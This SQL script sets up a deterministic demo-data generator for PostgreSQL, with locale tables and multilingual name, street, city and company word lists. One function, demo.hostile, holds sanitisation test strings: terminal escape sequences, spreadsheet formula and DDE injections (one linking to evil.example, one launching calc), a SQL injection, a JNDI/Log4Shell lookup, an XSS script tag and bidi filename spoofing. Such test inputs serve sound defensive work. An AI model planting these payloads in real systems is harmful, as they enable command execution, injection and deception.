-- The words from which the demo data are put together. They live in a schema of their own that 90_done.sql drops again.
-- Nothing here is random: every choice is a hash of the row's number and a salt, so that the data are the same every time, on every plan.
DROP SCHEMA IF EXISTS demo CASCADE;
CREATE SCHEMA demo;
COMMENT ON SCHEMA demo IS 'Scratch of the demo data generator; dropped when it has run';

-- A number from 0 to n - 1 for row g; salt tells the choices of one row apart.
CREATE FUNCTION demo.pick(g bigint, salt int, n bigint) RETURNS bigint LANGUAGE sql IMMUTABLE PARALLEL SAFE
	AS $$ SELECT (pg_catalog.hashint8extended(g, salt) & 9007199254740991) % n $$;
-- A number from 0 up to but not including 1.
CREATE FUNCTION demo.unit(g bigint, salt int) RETURNS double precision LANGUAGE sql IMMUTABLE PARALLEL SAFE
	AS $$ SELECT ((pg_catalog.hashint8extended(g, salt) & 9007199254740991)::double precision / 9007199254740992) $$;
-- How many users: the setting steward.demo_users, 2,000 without it, from 200 to 20,000,000.
CREATE FUNCTION demo.users() RETURNS bigint LANGUAGE sql STABLE
	AS $$ SELECT greatest(200, least(20000000, coalesce(nullif(current_setting('steward.demo_users', true), ''), '2000')::bigint)) $$;
-- The day on which the demo plays.
CREATE FUNCTION demo.today() RETURNS timestamptz LANGUAGE sql IMMUTABLE AS $$ SELECT timestamptz '2026-11-23 12:00:00+00' $$;
-- Latin letters for Greek and Cyrillic ones, for e-mail addresses.
CREATE FUNCTION demo.latin(t text) RETURNS text LANGUAGE sql IMMUTABLE PARALLEL SAFE AS $$
	SELECT regexp_replace(translate(site.fold(t), 'абвгдезийклмнопрстуфхцчшщыьюяєіїґαβγδεζηθικλμνξοπρσςτυφχψω',
		'abvgdezijklmnoprstufhccssyyuaeiigavgdeziuiklmnxoprsstufhpo'), '[^a-z0-9]', '', 'g') $$;
-- Bytes that a console must never pass on raw, spelled so that this file stays plain text.
CREATE FUNCTION demo.hostile(n bigint) RETURNS text LANGUAGE sql IMMUTABLE AS $$
	SELECT (ARRAY[
		E'\u001B[31mRed\u001B[0m Alert', E'\u001B]0;owned\u0007Title', '=HYPERLINK("http://evil.example","click")', '+cmd|'' /C calc''!A0',
		'@SUM(1+1)', '-2+3', E'abc\u202Egnp.exe', E'zero\u200Bwidth\u200Djoin\uFEFF', E'back\u0008\u0008\u0008space', E'over\rwrite',
		E'c1\u009B31m', 'quote"s, and; semi', 'Robert''); DROP TABLE students;--', '%_\%', E'tab\tbed', E'bell\u0007bell',
		repeat('Wolfeschlegelsteinhausenbergerdorff', 6), E'\u2066isolate\u2069', E'e\u0301\u0301\u0301\u0301\u0301zalgo', E'\U000E0041tag',
		E'\U0001F469\u200D\U0001F469\u200D\U0001F467 family', E'\uE000private', '${jndi:ldap://x.example/a}', '<script>alert(1)</script>'])[1 + n % 24] $$;

-- One row a locale: how often (of 1,000), its country, how addresses and telephones look.
CREATE TABLE demo.locales (locale text PRIMARY KEY, low int, high int, country text, language text, currency text, dial text, postcode text);
INSERT INTO demo.locales
	SELECT l, coalesce(sum(w) OVER (ORDER BY n ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0), sum(w) OVER (ORDER BY n), c, g, m, d, p
	FROM (VALUES
		(1, 'de', 210, 'DE', 'de', 'EUR', '49', '#####'), (2, 'nl', 170, 'NL', 'nl', 'EUR', '31', '#### @@'),
		(3, 'fr', 120, 'FR', 'fr', 'EUR', '33', '#####'), (4, 'en', 120, 'GB', 'en', 'GBP', '44', '@@# #@@'),
		(5, 'es', 80, 'ES', 'es', 'EUR', '34', '#####'), (6, 'it', 60, 'IT', 'it', 'EUR', '39', '#####'),
		(7, 'be', 50, 'BE', 'nl', 'EUR', '32', '####'), (8, 'at', 40, 'AT', 'de', 'EUR', '43', '####'),
		(9, 'ch', 30, 'CH', 'de', 'CHF', '41', '####'), (10, 'pl', 40, 'PL', 'pl', 'PLN', '48', '##-###'),
		(11, 'cs', 20, 'CZ', 'cs', 'CZK', '420', '### ##'), (12, 'sv', 15, 'SE', 'sv', 'SEK', '46', '### ##'),
		(13, 'da', 15, 'DK', 'da', 'DKK', '45', '####'), (14, 'el', 15, 'GR', 'el', 'EUR', '30', '### ##'),
		(15, 'bg', 15, 'BG', 'bg', 'BGN', '359', '####')) v(n, l, w, c, g, m, d, p);

CREATE TABLE demo.words (kind text, locale text, n int, word text, PRIMARY KEY (kind, locale, n));
INSERT INTO demo.words SELECT kind, locale, ord - 1, word FROM (VALUES
	('first', 'de', 'Anna,Thomas,Sabine,Jürgen,Käthe,Wolfgang,Ursula,Jörg,Heike,Günther,Petra,Björn,Anke,Lukas,Jannik,Franziska,Matthias,Renate,Uwe,Kerstin,Sören,Lieselotte,Hans-Peter,Klaus,Monika,Andreas,Birgit,Stefan,Karin,Michael,Heinz,Ingrid,Dieter,Gisela,Rüdiger,Traudl'),
	('last', 'de', 'Müller,Schmidt,Schneider,Fischer,Weber,Meyer,Wagner,Becker,Schulz,Hoffmann,Schäfer,Koch,Bauer,Richter,Klein,Wolf,Schröder,Neumann,Schwarz,Zimmermann,Braun,Krüger,Hofmann,Hartmann,Lange,Schmitt,Werner,Krause,Meier,Lehmann,Köhler,Herrmann,König,Walter,Weiß,Großmann,Strauß,Jäger,Böhm,Vogt'),
	('stem', 'de', 'Kirch,Ober,Nieder,Stein,Wald,Berg,Brunn,Eich,Linden,Hasel,Rosen,Silber,Gold,Eisen,Löwen,Vogel,Acker,Bach,Birken,Grün,Hagen,Küster,Mühl,Sand,Schön,Tannen,Ufer,Wiesen,Ziegen,Dorn'),
	('tail', 'de', 'hoff,mann,berger,bach,stein,feld,meier,müller,hausen,wald,thal,kamp'),
	('street', 'de', 'Hauptstraße,Ringstraße,Bahnhofstraße,Goethestraße,Lindenweg,Am Markt,Schillerplatz,Gartenstraße,Kölner Straße,Mühlenweg,Bergstraße,Königsallee'),
	('city', 'de', 'Köln,Berlin,München,Hamburg,Düsseldorf,Frankfurt am Main,Nürnberg,Göttingen,Lübeck,Würzburg,Leipzig,Saarbrücken,Stuttgart,Münster,Tübingen,Görlitz'),
	('trade', 'de', 'Verlag,Bildagentur,Werbung,Druckhaus,Medien,Fotostudio,Grafik,Zeitung,Buchhandlung,Film'),
	('form', 'de', 'GmbH,& Söhne GmbH,AG,KG,GbR,e. K.,UG (haftungsbeschränkt)'),
	('first', 'nl', 'Jan,Anneke,Pieter,Femke,Sjoerd,Maartje,Willem,Saskia,Joost,Annelies,Bram,Liesbeth,Gijs,Marijke,Ruud,Floor,Daan,Iris,Koen,Eline,Thijs,Noor,Sven,Roos,Ferdinand,Lotte,Jeroen,Wendy,Kees,Tineke,Rik,Hanneke,Zoë,Chloë,Daniël,Noël'),
	('last', 'nl', 'de Jong,Jansen,de Vries,van den Berg,van Dijk,Bakker,Janssen,Visser,Smit,Meijer,de Boer,Mulder,de Groot,Bos,Vos,Peters,Hendriks,van Leeuwen,Dekker,Brouwer,de Wit,Dijkstra,Smits,de Graaf,van der Meer,van der Linden,Kok,Jacobs,van der Heijden,van ''t Hoff,in ''t Veld,ten Brink,van der Laan,Schouten,Postma,Hoekstra,Coëlho,Wijaya,Özdemir,van der Meier'),
	('stem', 'nl', 'van der Wijn,van den Eik,van de Water,van der Bloem,Hoog,Laag,Oude,Nieuw,Groen,Zwart,Wit,Roos,Vlier,Wilgen,Linde,Berken,Kerk,Molen,Polder,Zee,Duin,Veen,Heide,Bosch,Akker,Weide,Terp,Haven,Sluis,Dijk'),
	('tail', 'nl', 'kamp,veld,berg,stra,sma,huis,man,horst,brink,dam,meer,huizen'),
	('street', 'nl', 'Dorpsstraat,Kerkstraat,Stationsweg,Prinsengracht,Julianalaan,Molenweg,Beatrixplantsoen,Nieuwe Gracht,Oudegracht,Singel,Weteringschans,''s-Gravenweg'),
	('city', 'nl', 'Amsterdam,Utrecht,Rotterdam,''s-Hertogenbosch,Den Haag,Groningen,Eindhoven,Nijmegen,Haarlem,Leiden,Maastricht,Delft,Zwolle,IJmuiden,Súdwest-Fryslân,Zaltbommel'),
	('trade', 'nl', 'Uitgeverij,Beeldbank,Reclame,Drukkerij,Media,Fotografie,Ontwerp,Krant,Boekhandel,Film'),
	('form', 'nl', 'B.V.,V.O.F.,N.V.,Stichting,& Zn.,Groep'),
	('first', 'fr', 'Jean,Marie,Hélène,François,Élodie,Benoît,Chloé,Loïc,Anaïs,Gaël,Aurélie,Rémi,Noémie,Cédric,Inès,Théo,Zoé,Jérôme,Agnès,Hervé,Sylvie,Didier,Maëlle,Stéphane,Céline,Guy,Odile,Yves,Mireille,Gérard'),
	('last', 'fr', 'Martin,Bernard,Thomas,Petit,Robert,Richard,Durand,Dubois,Moreau,Laurent,Simon,Michel,Lefèvre,Leroy,Roux,David,Bertrand,Morel,Fournier,Girard,Bonnet,Dupont,Lambert,Fontaine,Rousseau,Muller,Faure,Mercier,L''Hôpital,d''Ormesson,Châtelain,Bézier,Garçon,Noël,Œuvrard'),
	('stem', 'fr', 'Beau,Clair,Mont,Haut,Bel,Grand,Vieux,Neuf,Fort,Blanc,Ville,Roche,Val,Champ,Pré,Saint-,Cour,Fon,Mar,Tour'),
	('tail', 'fr', 'mont,ville,champ,bois,eau,ier,ault,elle,ard,don,fort,lieu'),
	('street', 'fr', 'rue de la République,avenue Victor-Hugo,boulevard Saint-Michel,rue des Écoles,place de l''Église,chemin du Moulin,quai d''Orsay,impasse des Lilas'),
	('city', 'fr', 'Paris,Lyon,Marseille,Besançon,Nîmes,Orléans,Béziers,Saint-Étienne,Strasbourg,Mâcon,Angoulême,Évreux,Toulouse,Rennes'),
	('trade', 'fr', 'Éditions,Agence photo,Publicité,Imprimerie,Médias,Studio,Création,Presse,Librairie,Films'),
	('form', 'fr', 'SARL,SA,SAS,& Fils,et Cie'),
	('first', 'en', 'James,Mary,Siân,Oliver,Amelia,George,Isla,Harry,Ava,Noah,Emily,Jack,Sophia,Leo,Grace,Oscar,Lily,Charlie,Freya,Seán,Niamh,Róisín,Gareth,Rhys,Fiona,Hamish,Catriona,Alistair,Priya,Imran'),
	('last', 'en', 'Smith,Jones,Taylor,Brown,Williams,Wilson,Johnson,Davies,Robinson,Wright,Thompson,Evans,Walker,White,Roberts,Green,Hall,Wood,Jackson,Clarke,O''Brien,O''Neill,MacDonald,McKenzie,Fitzgerald,Cholmondeley,Patel,Khan,Brontë,Ó Súilleabháin'),
	('stem', 'en', 'Ash,Black,Brad,Brook,Burn,Clay,Cold,Cross,Elm,Fair,Graf,Green,Hart,Hazel,Kings,Lang,Mil,Nor,Oak,Pen,Ramsey,Stan,Thorn,Wal,Whit'),
	('tail', 'en', 'ford,ton,ley,wood,field,worth,bury,by,ham,well,stone,shaw'),
	('street', 'en', 'High Street,Station Road,Church Lane,Victoria Road,Green Lane,Manor Road,Kings Road,Queen Street,Mill Lane,The Crescent'),
	('city', 'en', 'London,Manchester,Bristol,Edinburgh,Glasgow,Leeds,Cardiff,Belfast,Oxford,Bath,York,St Andrews'),
	('trade', 'en', 'Publishing,Picture Library,Advertising,Print,Media,Studios,Design,News,Books,Films'),
	('form', 'en', 'Ltd,LLP,plc,& Sons,& Co,Partners'),
	('first', 'es', 'José,María,Íñigo,Lucía,Álvaro,Sofía,Martín,Paula,Óscar,Begoña,Iñaki,Nuria,Andrés,Ángela,Raúl,Inés,Joaquín,Rocío,Tomás,Pilar,Jesús,Belén,Ramón,Concepción'),
	('last', 'es', 'García,Martínez,López,Sánchez,Pérez,Gómez,Martín,Jiménez,Ruiz,Hernández,Díaz,Moreno,Muñoz,Álvarez,Romero,Ñandú,Núñez,Ibáñez,Ordóñez,Peña,Castaño,Zúñiga,Güell,Argüelles,García Márquez,de la Cruz,Fernández-Villaverde'),
	('stem', 'es', 'Monte,Villa,Fuente,Campo,Torre,Casa,Río,Prado,Sierra,Valle,Puerto,Castro,Roble,Piedra,Agua'),
	('tail', 'es', 'negro,blanca,verde,alta,hermosa,seca,mayor,real,nueva,rubio,franca,grande'),
	('street', 'es', 'Calle Mayor,Avenida de la Constitución,Plaza de España,Paseo de la Castellana,Calle del Sol,Gran Vía,Camino Viejo,Ronda de Atocha'),
	('city', 'es', 'Madrid,Barcelona,Sevilla,A Coruña,Málaga,León,Cádiz,Logroño,Bilbao,Alcalá de Henares,Córdoba,Ávila'),
	('trade', 'es', 'Editorial,Agencia Gráfica,Publicidad,Imprenta,Medios,Estudio,Diseño,Prensa,Librería,Películas'),
	('form', 'es', 'S.L.,S.A.,e Hijos,y Cía.'),
	('first', 'it', 'Giuseppe,Maria,Niccolò,Giulia,Andrea,Chiara,Matteo,Francesca,Luca,Sara,Lorenzo,Alice,Davide,Elena,Simone,Noè,Desirée,Salvatore,Concetta,Gianluigi'),
	('last', 'it', 'Rossi,Russo,Ferrari,Esposito,Bianchi,Romano,Colombo,Ricci,Marino,Greco,Bruno,Gallo,Conti,De Luca,Mancini,Costa,Giordano,Rizzo,Lombardi,Moretti,D''Angelo,Dell''Acqua,Nicolò,Cantù'),
	('stem', 'it', 'Monte,Campo,Bella,Bona,Fonta,Casa,Vento,Porta,Selva,Terra,Ponte,Serra,Villa,Valle'),
	('tail', 'it', 'rossi,nero,bianco,verde,forte,longa,franca,nova,vecchia,mezza,dolce,piana'),
	('street', 'it', 'Via Roma,Via Garibaldi,Corso Italia,Piazza del Duomo,Via Dante,Viale della Libertà,Via San Francesco,Vicolo Stretto'),
	('city', 'it', 'Roma,Milano,Napoli,Torino,Firenze,Forlì,Cantù,Bologna,Venezia,Palermo,Reggio nell''Emilia,L''Aquila'),
	('trade', 'it', 'Edizioni,Agenzia fotografica,Pubblicità,Tipografia,Media,Studio,Grafica,Stampa,Libreria,Film'),
	('form', 'it', 'S.r.l.,S.p.A.,e Figli,S.n.c.'),
	('first', 'pl', 'Łukasz,Małgorzata,Paweł,Agnieszka,Michał,Katarzyna,Krzysztof,Żaneta,Wojciech,Jolanta,Grażyna,Stanisław,Bożena,Zdzisław,Świętosława,Jędrzej'),
	('last', 'pl', 'Nowak,Kowalska,Wiśniewski,Wójcik,Kowalczyk,Kamińska,Lewandowski,Zieliński,Szymańska,Woźniak,Dąbrowska,Kozłowski,Jabłońska,Król,Wróbel,Gęślicki,Żółtowska,Błaszczykowski'),
	('stem', 'pl', 'Brzoz,Dęb,Jasi,Kalin,Lip,Malin,Olsz,Sosn,Wierzb,Zab,Górn,Krak'),
	('tail', 'pl', 'owski,icki,iński,ak,czyk,arz,ewicz,ecki,ańska,ota,ula,uch'),
	('street', 'pl', 'ul. Świętokrzyska,ul. Długa,al. Jerozolimskie,ul. Źródlana,Rynek Główny,ul. Piłsudskiego,ul. Łąkowa'),
	('city', 'pl', 'Warszawa,Kraków,Łódź,Wrocław,Gdańsk,Poznań,Białystok,Rzeszów,Częstochowa,Świętochłowice'),
	('trade', 'pl', 'Wydawnictwo,Agencja Fotograficzna,Reklama,Drukarnia,Media,Studio,Grafika,Prasa,Księgarnia,Film'),
	('form', 'pl', 'sp. z o.o.,S.A.,i Synowie,s.c.'),
	('first', 'cs', 'Jiří,Tomáš,Kateřina,Ondřej,Zdeněk,Šárka,Václav,Božena,Lukáš,Žofie,Přemysl,Eliška,Matěj,Růžena'),
	('last', 'cs', 'Novák,Svobodová,Novotný,Dvořák,Černá,Procházka,Kučerová,Veselý,Horáková,Němec,Pokorná,Růžička,Beneš,Fialová,Žižka,Čapek,Šťastný'),
	('stem', 'cs', 'Buk,Doub,Hor,Jahod,Kop,Lip,Med,Okrouh,Pol,Skal,Vod,Zahrad'),
	('tail', 'cs', 'ecký,ník,áček,ovský,ová,ek,ička,áč,anský,ina,al,oň'),
	('street', 'cs', 'Václavské náměstí,Dlouhá,Žižkova,Na Příkopě,Křížová,U Řeky,Náměstí Míru'),
	('city', 'cs', 'Praha,Brno,Plzeň,Ústí nad Labem,České Budějovice,Olomouc,Děčín,Třebíč'),
	('trade', 'cs', 'Nakladatelství,Fotobanka,Reklama,Tiskárna,Média,Ateliér,Grafika,Tisk,Knihkupectví,Film'),
	('form', 'cs', 's.r.o.,a.s.,a synové'),
	('first', 'sv', 'Björn,Åsa,Göran,Märta,Håkan,Linnéa,Örjan,Ängla,Lars,Ingrid,Åke,Sigrid,Nils,Görel,Ragnhild'),
	('last', 'sv', 'Andersson,Johansson,Karlsson,Nilsson,Eriksson,Larsson,Olsson,Ångström,Sjöberg,Öberg,Åkesson,Lindström,Bergström,Söderqvist,Hägglund'),
	('stem', 'sv', 'Al,Berg,Björk,Ek,Gran,Hed,Holm,Lind,Lund,Sjö,Sten,Ström,Väster,Öster'),
	('tail', 'sv', 'ström,berg,qvist,gren,mark,lund,blad,holm,man,stedt,löf,dahl'),
	('street', 'sv', 'Storgatan,Drottninggatan,Kungsgatan,Västra Hamngatan,Björkvägen,Åsgatan,Östra Torget'),
	('city', 'sv', 'Stockholm,Göteborg,Malmö,Örebro,Västerås,Jönköping,Umeå,Ängelholm,Åre'),
	('trade', 'sv', 'Förlag,Bildbyrå,Reklam,Tryckeri,Medier,Studio,Form,Tidning,Bokhandel,Film'),
	('form', 'sv', 'AB,HB,& Söner'),
	('first', 'da', 'Søren,Mette,Jørgen,Åse,Bjørn,Kirstine,Rasmus,Solvejg,Øyvind,Dagný,Þórður,Guðrún,Kåre,Bodil,Mads'),
	('last', 'da', 'Nielsen,Jensen,Hansen,Pedersen,Sørensen,Rasmussen,Jørgensen,Møller,Østergaard,Kjær,Nørgaard,Ågård,Skovgaard,Æbelø,Björnsdóttir'),
	('stem', 'da', 'Bech,Dal,Elle,Fug,Gam,Hav,Kirke,Lang,Mølle,Nør,Over,Skov,Sønder,Vester'),
	('tail', 'da', 'gaard,sen,holm,bjerg,lund,toft,berg,skov,by,strup,høj,bæk'),
	('street', 'da', 'Nørregade,Vestergade,Østerbrogade,Kirkevej,Skolegade,Åboulevarden,Sømarksvej'),
	('city', 'da', 'København,Århus,Odense,Aalborg,Køge,Næstved,Helsingør,Ærøskøbing'),
	('trade', 'da', 'Forlag,Billedbureau,Reklame,Trykkeri,Medier,Studie,Design,Avis,Boghandel,Film'),
	('form', 'da', 'ApS,A/S,I/S,& Sønner'),
	('first', 'el', 'Άννα,Γιώργος,Ελένη,Κώστας,Μαρία,Δημήτρης,Σοφία,Νίκος,Αικατερίνη,Ιωάννης'),
	('last', 'el', 'Παπαδόπουλος,Γεωργίου,Οικονόμου,Δημητρίου,Αλεξίου,Νικολάου,Μακρής,Καραγιάννη,Ψαράς,Ξενάκης'),
	('stem', 'el', 'Παπα,Καρα,Χατζη,Μαυρο,Κοντο,Γερο,Μακρο,Αρχο'),
	('tail', 'el', 'δάκης,γιάννης,νικόλας,θανάσης,πουλος,κώστας,λεξίου,δημος,γιώργης,μιχάλης,στεργίου,ζήσης'),
	('street', 'el', 'Οδός Ερμού,Λεωφόρος Συγγρού,Πλατεία Ομονοίας,Πανεπιστημίου,Βασιλίσσης Σοφίας'),
	('city', 'el', 'Αθήνα,Θεσσαλονίκη,Πάτρα,Ηράκλειο,Ιωάννινα,Χανιά'),
	('trade', 'el', 'Εκδόσεις,Φωτοθήκη,Διαφήμιση,Τυπογραφείο,Μέσα,Στούντιο,Γραφικά,Εφημερίδα,Βιβλιοπωλείο,Ταινίες'),
	('form', 'el', 'ΕΠΕ,ΑΕ,και Υιοί'),
	('first', 'bg', 'Иван,Мария,Георги,Елена,Димитър,Ана,Николай,Десислава,Стоян,Йорданка,Щерю,Олександр,Юлія'),
	('last', 'bg', 'Иванов,Георгиева,Димитров,Петрова,Николов,Христова,Стоянов,Шевченко,Ковальчук,Бойко,Ґалаґан,Їжакевич,Щърбанов'),
	('stem', 'bg', 'Бял,Гор,Дол,Зелен,Камен,Лес,Мор,Реч,Сив,Червен'),
	('tail', 'bg', 'ов,ева,енко,чук,ски,ин,арски,анов,ишева,ук,евич,ец'),
	('street', 'bg', 'бул. Витоша,ул. Граф Игнатиев,пл. Славейков,ул. Цар Шишман,ул. Шипка'),
	('city', 'bg', 'София,Пловдив,Варна,Бургас,Русе,Велико Търново'),
	('trade', 'bg', 'Издателство,Фотобанка,Реклама,Печатница,Медия,Студио,Графика,Вестник,Книжарница,Филм'),
	('form', 'bg', 'ООД,АД,и синове')
) v(kind, locale, list), LATERAL string_to_table(list, ',') WITH ORDINALITY AS w(word, ord);
-- Belgium, Austria and Switzerland speak their neighbours' languages and live in their own towns.
INSERT INTO demo.words SELECT w.kind, b.locale, w.n, w.word FROM demo.words w JOIN (VALUES ('nl', 'be'), ('de', 'at'), ('de', 'ch')) b(lender, locale)
	ON b.lender = w.locale WHERE w.kind NOT IN ('city');
INSERT INTO demo.words SELECT 'city', locale, ord - 1, word FROM (VALUES
	('be', 'Antwerpen,Gent,Brussel,Liège,Namur,Brugge,Leuven,Mechelen,Oostende'), ('at', 'Wien,Graz,Linz,Salzburg,Innsbruck,Sankt Pölten,Dornbirn'),
	('ch', 'Zürich,Genève,Bern,Basel,Neuchâtel,Delémont,Chur,Lugano')) v(locale, list), LATERAL string_to_table(list, ',') WITH ORDINALITY AS w(word, ord);
INSERT INTO demo.words SELECT 'any', '*', ord - 1, word FROM string_to_table('aurora,blende,camera,delta,echo,fokus,galaxy,horizon,iris,jasmin,kobalt,lumiere,mosaik,nimbus,optik,pixel,quadrat,radius,saffier,tonal,ultra,vertigo,wolke,xenon,ypsilon,zenit,atlas,borealis,cirrus,dynamo,ember,fresco,gamma,halo,indigo,juniper,karat,lotus,magenta,nova,onyx,prisma,quasar,rubin,sepia,topas,umbra,viola,wander,zirkon', ',')
	WITH ORDINALITY AS w(word, ord);
CREATE TABLE demo.counts AS SELECT kind, locale, count(*)::int AS n FROM demo.words GROUP BY kind, locale;
ANALYZE demo.words; ANALYZE demo.counts; ANALYZE demo.locales;
